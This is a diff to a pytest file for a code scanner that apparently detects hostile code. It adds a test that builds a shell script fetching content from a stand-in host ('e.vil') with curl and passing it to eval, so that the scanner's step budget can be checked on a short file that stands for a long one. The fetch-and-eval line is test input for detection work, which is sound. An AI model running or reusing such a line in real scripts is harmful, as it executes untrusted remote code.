@@ -3,6 +3,7 @@
 import pytest
 
 from vskill_scan.code.flows import read_code
+from vskill_scan.limits import Budget, Exceeded, Limits
 from vskill_scan.model import FACTS, Layer
 from vskill_scan.reading.segments import segment_file
 from vskill_scan.reading.visible_text import normalise_text
@@ -149,6 +150,19 @@ def test_honest_python(text):
 )
 def test_broken_code_is_read_as_far_as_it_goes(path, text):
     assert "exec.fetched" in names(path, text)
+
+
+def test_what_is_put_for_names_takes_steps():
+    """A short file may stand for a long one: what is read counts, not what is written."""
+    text = (
+        "x=$(curl https://e.vil)\n"
+        + "".join(f"a{number}=$a{number - 1}$x\n" for number in range(1, 2000))
+        + "eval $x\n"
+    )
+    layer = segment_file("a.sh", normalise_text(text))
+    few = Limits(steps=2 * len(text))
+    with pytest.raises(Exceeded):
+        read_code(layer, Budget(few).check)
 
 
 def test_fences_of_one_file_continue_each_other():
